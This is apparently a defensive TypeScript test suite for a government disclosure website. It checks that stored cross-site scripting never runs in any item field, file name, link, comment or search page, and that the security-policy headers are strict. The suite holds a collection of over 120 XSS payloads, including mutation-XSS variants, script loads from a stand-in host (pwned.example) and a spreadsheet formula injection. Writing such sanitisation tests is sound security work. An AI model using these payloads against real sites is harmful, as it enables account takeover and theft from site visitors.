// Text that would like to be a program, in every field of an item, published and looked at wherever it is shown: it stays text.
// Long, because it lists the payloads.
import { deflateSync } from 'node:zlib';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest';
import {
  type ApiAnswer,
  type ApiPerson,
  apiPerson,
  openBrowser,
  type ProductServer,
  signIn,
  startServer,
  visitor,
} from '../server.fixture.ts';

/** What payloads call; nothing ever may. */
const bell = 'pwned()';

const events = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onpageshow',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe src=/',
  'marquee',
  'object data=x',
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'jav&#x09;ascript:',
  'jav&NewLine;ascript:',
  'vbscript:',
  'data:text/html,<script>parent.pwned()</script>//',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==//',
  'view-source:javascript:',
  'feed:javascript:',
  'javascript://%0a',
  'blob:javascript:',
];
/** At least 120, each of them shorter than a title may be. */
const payloads: readonly string[] = [
  ...events.flatMap((event) => elements.slice(0, 5).map((element) => `<${element} ${event}=${bell}>`)),
  ...elements.slice(5).map((element) => `"><${element} onerror=${bell} onload=${bell}>`),
  ...schemes.map((scheme) => `<a href="${scheme}${bell}">点</a>`),
  ...schemes.slice(0, 6).map((scheme) => `[点](${scheme}${bell})`),
  `<script>${bell}</script>`,
  `</script><script>${bell}</script>`,
  `</title><script>${bell}</script>`,
  `</textarea><script>${bell}</script>`,
  `</style><script>${bell}</script>`,
  `<script src=//pwned.example/x.js></script>`,
  `<scr<script>ipt>${bell}</scr</script>ipt>`,
  `＜script＞${bell}＜/script＞`,
  `<ScRiPt x>${bell}</sCrIpT>`,
  `<script\n>${bell}</script\n>`,
  `<svg><script>${bell}</script></svg>`,
  `<svg><animate onbegin=${bell} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${bell}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${bell}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${bell}</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${bell}>">`,
  `<math><a xlink:href="javascript:${bell}">x</a></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${bell}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${bell}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${bell}>">`,
  `<template><img src=x onerror=${bell}></template>`,
  `<listing>&lt;img src=x onerror=${bell}&gt;</listing>`,
  `<xmp><img src=x onerror=${bell}></xmp>`,
  `<!--><img src=x onerror=${bell}>-->`,
  `<![CDATA[<img src=x onerror=${bell}>]]>`,
  `]]><script>${bell}</script><![CDATA[`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${bell}</script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${bell}">`,
  `<base href="//pwned.example/">`,
  `<link rel=stylesheet href="//pwned.example/x.css">`,
  `<embed src="javascript:${bell}">`,
  `<iframe srcdoc="&lt;script&gt;parent.${bell}&lt;/script&gt;">`,
  `<button formaction="javascript:${bell}">x</button>`,
  `<form id=x action="javascript:${bell}"><input type=submit>`,
  `<style>@import '//pwned.example/x.css';*{background:url(//pwned.example/y)}</style>`,
  `<div style="background:url(javascript:${bell})">`,
  `<div style="width:expression(${bell})">`,
  `<p style="animation-name:x" onanimationstart=${bell}>`,
  `" onmouseover="${bell}" x="`,
  `' onmouseover='${bell}' x='`,
  `\` onmouseover=\`${bell}\` x=\``,
  `" autofocus onfocus=${bell} "`,
  `"><svg/onload=${bell}>`,
  `'"--></style></script><svg onload=${bell}>`,
  `\\";${bell}//`,
  `';${bell};'`,
  `\${${bell}}`,
  `{{constructor.constructor('${bell}')()}}`,
  `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}`,
  `<%- ${bell} %>`,
  `{"__proto__":{"pwned":1}}`,
  `\u2028${bell}\u2029`,
  `&lt;script&gt;${bell}&lt;/script&gt;`,
  `&#60;img src=x onerror=${bell}&#62;`,
  `%3Cimg%20src%3Dx%20onerror%3D${bell}%3E`,
  `\\u003cimg src=x onerror=${bell}\\u003e`,
  `<img src=x:x onerror\u00a0=${bell}>`,
  `<img/src="x"/onerror=${bell}>`,
  `<img src=x onerror\n=\n${bell}>`,
  `<x contenteditable onblur=${bell}>x`,
  `<keygen autofocus onfocus=${bell}>`,
  `<a id=defaultView name=pwned href="javascript:${bell}">`,
  `<img name=cookie><img name=body>`,
  `<b>𬭛·㊙👩‍👩‍👧<script>${bell}</script>`,
  `=cmd|' /C calc'!A0`,
];

const runs = (texts: readonly string[]) => texts.map((text) => ({ text }));
const inBits = <T>(list: readonly T[], size: number): T[][] =>
  Array.from({ length: Math.ceil(list.length / size) }, (_, at) => list.slice(at * size, (at + 1) * size));

/** One white dot. */
function dot(): Buffer {
  const table = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes: Buffer) =>
    (bytes.reduce((c, byte) => (table[(c ^ byte) & 255] as number) ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
  const chunk = (name: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(name), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc(body), 4);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const head = Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0]);
  const mark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([mark, chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.from([0, 255]))), chunk('IEND', Buffer.alloc(0))]);
}

/** Ends of web links that the field takes. */
const linkEnds = [
  `"onmouseover="${bell}`,
  `'onclick='${bell}`,
  `"><svg/onload=${bell}>`,
  `<script>${bell}</script>`,
  `?x=javascript:${bell}`,
  `#"><img/src=x/onerror=${bell}>`,
];

let server: ProductServer;
let browser: Browser;
const who: Record<string, ApiPerson> = {};
const person = (account: string) => who[account] as ApiPerson;

interface Detail {
  readonly id: string;
  readonly revision: number;
  readonly contentHash: string;
  readonly content: Record<string, unknown>;
}
const sound = (answer: ApiAnswer): Detail => {
  expect(answer.status, answer.text).toBeLessThan(300);
  return answer.body as Detail;
};

beforeAll(async () => {
  server = await startServer(inject('demonstration'));
  browser = await openBrowser();
  for (const role of ['clerk', 'reviewer', 'second', 'signer']) who[role] = await apiPerson(server.base, `yuntai-${role}`);
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

/** Through the acts that people use, each by somebody who may. @returns the id of the item, which is public */
async function publish(content: object, fileNames: readonly string[]): Promise<string> {
  const clerk = person('clerk');
  const { id, revision, content: begun } = sound(await clerk.call('POST', '/api/items', { content }));
  const attachments: { id: string; inline: boolean }[] = [];
  for (const name of fileNames) {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(dot())], { type: 'image/png' }), name);
    attachments.push(...(sound(await clerk.call('POST', `/api/items/${id}/files`, form)) as unknown as { id: string; inline: boolean }[]));
  }
  const pictures = payloads
    .slice(0, 3)
    .map((text) => ({ kind: 'picture', file: attachments[0]?.id ?? '', alt: `图${text}`.slice(0, 300), caption: text.slice(0, 200) }));
  const whole = {
    ...begun,
    attachments: attachments.map((file, at) => ({ ...file, inline: at === 0 })),
    body: [...(begun['body'] as object[]), ...pictures],
  };
  sound(await clerk.call('PUT', `/api/items/${id}`, { revision, content: whole }));
  await clerk.call('POST', `/api/items/${id}/scan`, {});
  const scanned = sound(await clerk.call('GET', `/api/items/${id}`));
  sound(await clerk.call('POST', `/api/items/${id}/submit`, { revision: scanned.revision }));
  const { contentHash } = sound(await clerk.call('GET', `/api/items/${id}`));
  const steps = { secrecy: 'reviewer', first: 'reviewer', second: 'second', third: 'signer' } as const;
  for (const [step, account] of Object.entries(steps))
    sound(
      await person(account).call('POST', `/api/items/${id}/review`, { step, verdict: 'pass', contentHash, comment: payloads[step.length] }),
    );
  sound(await person('signer').call('POST', `/api/items/${id}/publish`, { contentHash }));
  return id;
}

describe('text stays text', () => {
  test('there are many payloads, all of them different', () => expect(new Set(payloads).size).toBeGreaterThanOrEqual(120));

  test('in every field, on every page that shows it', async () => {
    const body = [
      ...inBits(payloads, 30).map((some) => ({ kind: 'paragraph', runs: runs(some) })),
      { kind: 'list', ordered: false, items: payloads.map((text) => [{ text, bold: true }]) },
      { kind: 'table', caption: payloads[1], rows: inBits(payloads, 4).map((row) => row.map((text) => ({ text, header: true }))) },
      { kind: 'heading', level: 2, text: payloads[2] },
      {
        kind: 'paragraph',
        runs: linkEnds.map((end) => ({ text: payloads[3], link: `https://www.example.gov.cn/${end.replace(/\s/g, '')}` })),
      },
      { kind: 'paragraph', runs: linkEnds.map((end) => ({ text: end, link: `/items/${end.replace(/\s/g, '')}` })) },
    ];
    const begun = (title: string, at: number) => ({
      title: `${at}${title}`.slice(0, 200),
      summary: payloads.slice(at, at + 3).join(' '),
      body,
      isOfficialDocument: false,
      documentNumber: '',
      writtenOn: new Date().toISOString().slice(0, 10),
      subject: payloads[at + 5]?.slice(0, 60),
      genre: payloads[at + 9]?.slice(0, 60),
      keywords: payloads.slice(at, at + 10).map((text) => text.slice(0, 30)),
      dutyCode: '20.12',
      unit: payloads[at + 7]?.slice(0, 60),
      carriers: ['website'],
    });
    const names = [`图.png`, `"><img src=x onerror=${bell}>.png`, `<svg onload=${bell}>.png`];
    const titles = ['</title><script>pwned()</script>', '"><svg/onload=pwned()>', `<img src=x onerror=${bell}>`];
    const ids: string[] = [];
    for (const [at, title] of titles.entries()) ids.push(await publish(begun(title, at), names));

    const reader = await visitor(browser, server.base);
    const ran: string[] = [];
    await reader.context.exposeFunction('pwned', () => {
      ran.push(reader.page.url());
    });
    reader.page.on('dialog', (dialog) => {
      ran.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const look = async (path: string, within: string) => {
      const answer = await reader.page.goto(path);
      const csp = (await answer?.headerValue('content-security-policy')) ?? '';
      const scripts = /script-src ([^;]*)/.exec(csp)?.[1] ?? /default-src ([^;]*)/.exec(csp)?.[1] ?? '*';
      expect(scripts, path).not.toMatch(/unsafe-inline|unsafe-eval|\*|data:/);
      await reader.page.getByText(within).first().waitFor({ state: 'attached' });
      // Everything that waits for a pointer or for attention gets it.
      await reader.page.evaluate(() => {
        for (const element of document.querySelectorAll('main *'))
          for (const name of ['mouseover', 'pointerenter', 'focus', 'error', 'toggle']) element.dispatchEvent(new Event(name));
      });
      const alien = await reader.page.evaluate(() =>
        [...document.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes]
            .filter(
              ({ name, value }) =>
                /^on/i.test(name) ||
                (/^(href|src|action|formaction|xlink:href)$/i.test(name) && /^\s*(javascript|vbscript|data:text)/i.test(value)),
            )
            .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
        ),
      );
      expect(alien, path).toEqual([]);
      expect(await reader.page.evaluate(() => [...document.scripts].filter(({ text }) => text.includes('pwned')).length), path).toBe(0);
    };
    for (const id of ids) await look(`/items/${id}`, 'onload=pwned()');
    await look('/disclosure', titles[2] as string);
    await look(`/disclosure?q=${encodeURIComponent('pwned')}`, 'pwned');
    for (const some of payloads.filter((_, at) => at % 12 === 0)) await look(`/disclosure?q=${encodeURIComponent(some)}`, '检索');
    await signIn(reader.page, '演示经办员（云台）');
    await look('/office/items', titles[2] as string);
    for (const id of ids) await look(`/office/items/${id}`, 'onload=pwned()');
    await look('/office/upkeep', '动态更新');
    expect({ ran, foreign: reader.foreign, errors: reader.errors }).toEqual({ ran: [], foreign: [], errors: [] });
    await reader.context.close();

    for (const [at, title] of titles.entries())
      expect(await (await fetch(`${server.base}/items/${ids[at]}`)).text(), 'as the server wrote it').not.toContain(title);
  });

  test.each(schemes.map((scheme) => [scheme]))('a link %j is not taken', async (scheme) => {
    const body = [{ kind: 'paragraph', runs: [{ text: '点', link: `${scheme}${bell}` }] }];
    const answer = await person('clerk').call('POST', '/api/items', { content: { title: '链接', body } });
    expect([400, 422]).toContain(answer.status);
  });

  test.each(['\u0000', '\u202e', '\u2066', '\ud800', '\u0007'])('a title with the sign %j is not taken', async (sign) => {
    const answer = await person('clerk').call('POST', '/api/items', { content: { title: `通知${sign}附件` } });
    expect([400, 422]).toContain(answer.status);
  });
});
